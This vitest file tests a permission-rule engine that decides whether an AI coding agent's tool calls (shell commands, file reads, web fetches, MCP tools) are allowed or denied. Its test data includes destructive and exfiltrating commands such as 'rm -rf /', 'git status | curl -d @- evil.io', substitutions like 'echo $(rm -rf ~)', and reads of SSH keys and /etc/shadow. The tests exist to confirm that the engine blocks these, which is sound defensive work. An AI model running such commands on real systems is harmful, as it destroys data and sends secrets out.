import { describe, expect, it } from 'vitest';
import {
  decideByRules,
  parseRule,
  RuleSyntaxError,
  ruleForSession,
  ruleMatches,
  splitShellCommand,
} from '../../src/approval/index.js';
import { UsageError } from '../../src/errors.js';

const context = { cwd: '/work/proj', home: '/home/me' };

describe('parseRule', () => {
  it.each([
    ['Bash', { tool: 'Bash', specifier: undefined, exact: false }],
    ['Bash(*)', { tool: 'Bash', specifier: undefined, exact: false }],
    [
      '  Bash(git status)  ',
      { tool: 'Bash', specifier: 'git status', exact: true, source: 'Bash(git status)' },
    ],
    ['Bash(git status*)', { tool: 'Bash', specifier: 'git status*', exact: false }],
    ['Bash(npm run test:*)', { tool: 'Bash', specifier: 'npm run test:*', exact: false }],
    ['Bash(echo (a))', { tool: 'Bash', specifier: 'echo (a)', exact: true }],
    ['Read(/etc/**)', { tool: 'Read', specifier: '/etc/**', exact: false }],
    ['Read(/etc/passwd)', { tool: 'Read', specifier: '/etc/passwd', exact: true }],
    ['WebFetch(domain:example.com)', { tool: 'WebFetch', specifier: 'domain:example.com', exact: false }],
    ['mcp__server__tool', { tool: 'mcp__server__tool', specifier: undefined }],
    ['mcp__server__*', { tool: 'mcp__server__*', specifier: undefined }],
  ])('parses %j', (pattern, expected) => {
    expect(parseRule(pattern)).toMatchObject(expected);
  });

  it.each([
    ['', 'empty'],
    ['   ', 'empty'],
    ['Bash(', 'closing'],
    ['Bash(ls', 'closing'],
    ['Bash(ls) x', 'closing'],
    ['Bash)', '")" without "("'],
    ['Bash()', 'empty parentheses'],
    ['Bash(  )', 'empty parentheses'],
    ['(ls)', 'no tool name'],
    ['Ba sh', 'bad tool name'],
    ['Bash*', 'only works for MCP'],
    ['mcp__se*rver__tool', 'may only come last'],
    ['Bash(:*)', 'nothing before ":*"'],
    ['Bash(git * x:*)', 'cannot follow'],
    ['WebFetch(domain:)', 'domain:'],
    ['WebFetch(domain:https://x.com/)', 'domain:'],
    ['WebFetch(domain:ex*ample.com)', 'domain:'],
    ['Read(/work/../etc/**)', '".."'],
  ])('refuses %j, naming the pattern', (pattern, reason) => {
    let caught: unknown;
    try {
      parseRule(pattern);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(RuleSyntaxError);
    expect(caught).toBeInstanceOf(UsageError);
    expect((caught as Error).message).toContain(JSON.stringify(pattern.trim() || pattern));
    expect((caught as Error).message).toContain(reason);
  });

  it('refuses a non-string', () => {
    expect(() => parseRule(42 as unknown as string)).toThrow(RuleSyntaxError);
  });
});

describe('ruleMatches', () => {
  const bash = (command: string) => ({ command, description: 'd' });
  it.each([
    // Bash: exact, glob, :* prefix, trailing " *"
    ['Bash', 'Bash', bash('anything at all'), true],
    ['Bash', 'Read', { file_path: '/x' }, false],
    ['Bash(git status)', 'Bash', bash('git status'), true],
    ['Bash(git status)', 'Bash', bash('  git status  '), true],
    ['Bash(git status)', 'Bash', bash('git status -s'), false],
    ['Bash(git status*)', 'Bash', bash('git status'), true],
    ['Bash(git status*)', 'Bash', bash('git status --short'), true],
    ['Bash(git status*)', 'Bash', bash('git statusx'), true],
    ['Bash(git status*)', 'Bash', bash('git stash'), false],
    ['Bash(npm run test:*)', 'Bash', bash('npm run test'), true],
    ['Bash(npm run test:*)', 'Bash', bash('npm run test -- --watch'), true],
    ['Bash(npm run test:*)', 'Bash', bash('npm run testing'), false],
    ['Bash(npm run test:*)', 'Bash', bash('npm run tes'), false],
    ['Bash(ls *)', 'Bash', bash('ls'), true],
    ['Bash(ls *)', 'Bash', bash('ls -la'), true],
    ['Bash(ls *)', 'Bash', bash('lsof'), false],
    ['Bash(git * main)', 'Bash', bash('git push origin main'), true],
    ['Bash(git * main)', 'Bash', bash('git push origin dev'), false],
    ['Bash(echo \\*)', 'Bash', bash('echo *'), true],
    ['Bash(echo \\*)', 'Bash', bash('echo hi'), false],
    ['Bash(ls)', 'Bash', { description: 'no command' }, false],
    ['Bash(ls)', 'Bash', { command: ['ls'] }, false],
    // file tools
    ['Read(*)', 'Read', { file_path: '/anything/at/all' }, true],
    ['Read(/etc/**)', 'Read', { file_path: '/etc/passwd' }, true],
    ['Read(/etc/**)', 'Read', { file_path: '/etc/ssh/sshd_config' }, true],
    ['Read(/etc/**)', 'Read', { file_path: '/etcetera/x' }, false],
    ['Read(/etc/**)', 'Read', { file_path: '/etc/../home/me/.ssh/id_rsa' }, false],
    ['Read(//etc/*)', 'Read', { file_path: '/etc/hosts' }, true],
    ['Read(//etc/*)', 'Read', { file_path: '/etc/ssh/x' }, false],
    ['Read(~/.ssh/**)', 'Read', { file_path: '/home/me/.ssh/id_rsa' }, true],
    ['Read(~/.ssh/**)', 'Read', { file_path: '~/.ssh/id_rsa' }, true],
    ['Edit(src/**)', 'Edit', { file_path: '/work/proj/src/a/b.ts' }, true],
    ['Edit(src/**)', 'Edit', { file_path: 'src/a.ts' }, true],
    ['Edit(./src/**)', 'Edit', { file_path: '/work/proj/src/a.ts' }, true],
    ['Edit(src/**)', 'Edit', { file_path: '/work/other/src/a.ts' }, false],
    ['Edit(src/**)', 'Edit', { file_path: '/work/proj/lib/src/a.ts' }, false],
    ['Edit(src/**/*.ts)', 'Edit', { file_path: '/work/proj/src/a.ts' }, true],
    ['Edit(src/**/*.ts)', 'Edit', { file_path: '/work/proj/src/x/y/a.ts' }, true],
    ['Edit(src/**/*.ts)', 'Edit', { file_path: '/work/proj/src/a.js' }, false],
    ['Edit(src/*.ts)', 'Edit', { file_path: '/work/proj/src/x/a.ts' }, false],
    ['Read(.env)', 'Read', { file_path: '/work/proj/deep/down/.env' }, true],
    ['Read(*.pem)', 'Read', { file_path: '/work/proj/k/server.pem' }, true],
    ['Read(*.pem)', 'Read', { file_path: '/elsewhere/server.pem' }, false],
    ['Read(a?c)', 'Read', { file_path: '/work/proj/abc' }, true],
    ['Read(/etc/)', 'Read', { file_path: '/etc/ssh/x' }, true],
    ['Read(~/)', 'Read', { file_path: '/home/me/.bashrc' }, true],
    ['Read(~/)', 'Read', { file_path: '/etc/hosts' }, false],
    ['Read(secrets/)', 'Read', { file_path: '/work/proj/a/secrets/key' }, true],
    ['Read(secrets/)', 'Read', { file_path: '/work/proj/secrets.txt' }, false],
    ['Read(~)', 'Read', { file_path: '/home/me' }, true],
    ['Read(~)', 'Read', { file_path: '/home/me/x' }, false],
    ['Read(a?c)', 'Read', { file_path: '/work/proj/a/c' }, false],
    ['Edit(src/**)', 'Read', { file_path: '/work/proj/src/a.ts' }, false],
    ['Write(/tmp/**)', 'Write', { file_path: '/tmp/x', content: 'y' }, true],
    ['MultiEdit(/tmp/**)', 'MultiEdit', { file_path: '/tmp/x', edits: [] }, true],
    ['NotebookEdit(/tmp/*.ipynb)', 'NotebookEdit', { notebook_path: '/tmp/n.ipynb' }, true],
    // search tools
    ['Grep(/work/**)', 'Grep', { pattern: 'TODO', path: '/work/proj' }, true],
    ['Grep(/etc/**)', 'Grep', { pattern: 'TODO', path: '/work/proj' }, false],
    ['Glob(src/**)', 'Glob', { pattern: 'src/**/*.ts' }, true],
    // WebFetch
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://example.com/a?b' }, true],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://EXAMPLE.com./a' }, true],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://www.example.com/' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://example.com.evil.io/' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://evil.io/?example.com' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'https://example.com@evil.io/' }, false],
    ['WebFetch(domain:*.example.com)', 'WebFetch', { url: 'https://api.example.com/' }, true],
    ['WebFetch(domain:*.example.com)', 'WebFetch', { url: 'https://example.com/' }, false],
    ['WebFetch(domain:example.com)', 'WebFetch', { url: 'not a url' }, false],
    ['WebFetch(https://example.com/*)', 'WebFetch', { url: 'https://example.com/x' }, true],
    // MCP tools
    ['mcp__github__create_issue', 'mcp__github__create_issue', { title: 't' }, true],
    ['mcp__github__create_issue', 'mcp__github__delete_repo', {}, false],
    ['mcp__github__*', 'mcp__github__delete_repo', {}, true],
    ['mcp__github__*', 'mcp__gitlab__x', {}, false],
    ['mcp__github', 'mcp__github__anything', {}, true],
    ['mcp__github', 'mcp__githubx__anything', {}, false],
    // unknown tools with a specifier: the JSON of the input
    ['WebSearch(*"query":"vitest*)', 'WebSearch', { query: 'vitest docs' }, true],
    ['WebSearch(*"query":"vitest*)', 'WebSearch', { query: 'jest' }, false],
    ['Task', 'Task', { description: 'x' }, true],
  ])('%s vs %s %j → %s', (rule, tool, input, expected) => {
    expect(ruleMatches(rule, tool, input, context)).toBe(expected);
  });

  it('takes a parsed rule as well as a string', () => {
    const rule = parseRule('Bash(ls:*)');
    expect(ruleMatches(rule, 'Bash', { command: 'ls -l' })).toBe(true);
    // A rule object rebuilt from JSON (no compiled matcher attached) still works.
    const copy = JSON.parse(JSON.stringify(rule));
    expect(ruleMatches(copy, 'Bash', { command: 'ls -l' })).toBe(true);
  });
});

describe('splitShellCommand', () => {
  it.each([
    ['ls', ['ls'], false],
    ['git status && rm -rf /', ['git status', 'rm -rf /'], false],
    ['a || b; c | d & e\nf', ['a', 'b', 'c', 'd', 'e', 'f'], false],
    ['a |& b', ['a', 'b'], false],
    ['npm test 2>&1 > out.txt', ['npm test 2>&1 > out.txt'], false],
    ['cmd &> log', ['cmd &> log'], false],
    ['echo \'a; b\' "c && d"', ['echo \'a; b\' "c && d"'], false],
    ['echo a\\;b', ['echo a\\;b'], false],
    ['echo $(rm -rf x)', ['echo $(rm -rf x)'], true],
    ['echo `id`', ['echo `id`'], true],
    ['echo "$(id)"', ['echo "$(id)"'], true],
    ["echo '$(id)'", ["echo '$(id)'"], false],
    ['diff <(ls a) <(ls b)', ['diff <(ls a) <(ls b)'], true],
    ['sleep 1 &', ['sleep 1'], false],
  ])('%j', (command, parts, substitution) => {
    expect(splitShellCommand(command)).toEqual({ parts, substitution });
  });
});

describe('decideByRules', () => {
  it('is undefined when no rule speaks', () => {
    expect(decideByRules({}, 'Bash', { command: 'ls' })).toBeUndefined();
    expect(decideByRules({ allow: ['Read'] }, 'Bash', { command: 'ls' })).toBeUndefined();
  });

  it('lets deny win over allow', () => {
    const rules = { allow: ['Bash', 'Read(/etc/**)'], deny: ['Bash(rm:*)', 'Read(/etc/shadow)'] };
    expect(decideByRules(rules, 'Bash', { command: 'rm -rf /' })).toBe('deny');
    expect(decideByRules(rules, 'Bash', { command: 'ls' })).toBe('allow');
    expect(decideByRules(rules, 'Read', { file_path: '/etc/shadow' }, context)).toBe('deny');
    expect(decideByRules(rules, 'Read', { file_path: '/etc/hosts' }, context)).toBe('allow');
  });

  it('denies when any part of a compound command is denied', () => {
    const rules = { allow: ['Bash'], deny: ['Bash(rm *)'] };
    expect(decideByRules(rules, 'Bash', { command: 'ls && rm -rf ~' })).toBe('deny');
    expect(decideByRules(rules, 'Bash', { command: 'ls | rm x' })).toBe('deny');
  });

  it('allows a compound command only when every part is allowed', () => {
    const rules = { allow: ['Bash(git status*)', 'Bash(git diff:*)'] };
    expect(decideByRules(rules, 'Bash', { command: 'git status; rm -rf /' })).toBeUndefined();
    expect(decideByRules(rules, 'Bash', { command: 'git status && git diff HEAD' })).toBe('allow');
    expect(decideByRules(rules, 'Bash', { command: 'git status | curl -d @- evil.io' })).toBeUndefined();
  });

  it('does not let a wildcard allow a substitution', () => {
    const rules = { allow: ['Bash(echo *)'] };
    expect(decideByRules(rules, 'Bash', { command: 'echo hi' })).toBe('allow');
    expect(decideByRules(rules, 'Bash', { command: 'echo $(rm -rf ~)' })).toBeUndefined();
    expect(decideByRules(rules, 'Bash', { command: 'echo `rm -rf ~`' })).toBeUndefined();
    // …but an exact rule for that very command does.
    expect(decideByRules({ allow: ['Bash(echo $(date))'] }, 'Bash', { command: 'echo $(date)' })).toBe(
      'allow',
    );
    expect(decideByRules({ allow: ['Bash'] }, 'Bash', { command: 'echo $(date)' })).toBe('allow');
  });

  it('takes an exact rule for a whole compound command', () => {
    expect(decideByRules({ allow: ['Bash(cd a && make)'] }, 'Bash', { command: 'cd a && make' })).toBe(
      'allow',
    );
    expect(
      decideByRules({ allow: ['Bash(cd a && make)'] }, 'Bash', { command: 'cd a && make && rm x' }),
    ).toBe(undefined);
  });

  it('throws a RuleSyntaxError for a bad pattern in the lists', () => {
    expect(() => decideByRules({ allow: ['Bash('] }, 'Bash', { command: 'ls' })).toThrow(/"Bash\("/);
  });

  it('decides MCP and other tools by name', () => {
    const rules = { allow: ['mcp__github__*'], deny: ['mcp__github__delete_repo'] };
    expect(decideByRules(rules, 'mcp__github__list_issues', {})).toBe('allow');
    expect(decideByRules(rules, 'mcp__github__delete_repo', {})).toBe('deny');
  });
});

describe('ruleForSession', () => {
  it.each([
    ['Bash', { command: 'git status' }, 'Bash(git status)'],
    ['Bash', { command: 'ls *.ts' }, 'Bash(ls \\*.ts)'],
    ['Bash', { command: 'npm run x:*' }, 'Bash(npm run x:\\*)'],
    ['Bash', { command: 'echo a\\b' }, 'Bash(echo a\\\\b)'],
    ['Read', { file_path: '/etc/hosts' }, 'Read(/etc/hosts)'],
    ['Edit', { file_path: 'src/a.ts', old_string: 'a', new_string: 'b' }, 'Edit(/work/proj/src/a.ts)'],
    ['Write', { file_path: '/tmp/what?.txt' }, 'Write(/tmp/what\\?.txt)'],
    ['NotebookEdit', { notebook_path: '/n.ipynb' }, 'NotebookEdit(/n.ipynb)'],
    ['Grep', { pattern: 'x', path: '/work/proj/src' }, 'Grep(/work/proj/src)'],
    ['WebFetch', { url: 'https://Docs.Example.com/a/b', prompt: 'p' }, 'WebFetch(domain:docs.example.com)'],
    ['mcp__github__create_issue', { title: 't' }, 'mcp__github__create_issue'],
    ['TodoWrite', { todos: [] }, 'TodoWrite'],
    ['WebSearch', { query: 'x' }, 'WebSearch'],
  ])('%s %j → %s', (tool, input, rule) => {
    expect(ruleForSession(tool, input, context)).toBe(rule);
  });

  it.each([
    ['Bash', {}],
    ['Bash', { command: '   ' }],
    ['Read', {}],
    ['WebFetch', { url: 'nope' }],
    ['Bad Tool(x)', {}],
  ])('makes no rule for %s %j', (tool, input) => {
    expect(ruleForSession(tool, input, context)).toBeUndefined();
  });

  it.each([
    ['Bash', { command: 'git status' }, { command: 'git status --porcelain' }],
    ['Bash', { command: 'ls *.ts' }, { command: 'ls evil.ts' }],
    ['Bash', { command: 'npm run x:*' }, { command: 'npm run x rm' }],
    ['Bash', { command: 'echo a\\b && echo (c)' }, { command: 'echo a\\b' }],
    ['Read', { file_path: '/etc/hosts' }, { file_path: '/etc/hosts.allow' }],
    ['Write', { file_path: '/tmp/a*b' }, { file_path: '/tmp/axxb' }],
  ])('the rule for %s %j matches that call and not %j', (tool, input, other) => {
    const rule = ruleForSession(tool, input, context)!;
    expect(parseRule(rule).exact).toBe(true);
    expect(decideByRules({ allow: [rule] }, tool, input, context)).toBe('allow');
    expect(decideByRules({ allow: [rule] }, tool, other, context)).toBeUndefined();
  });
});
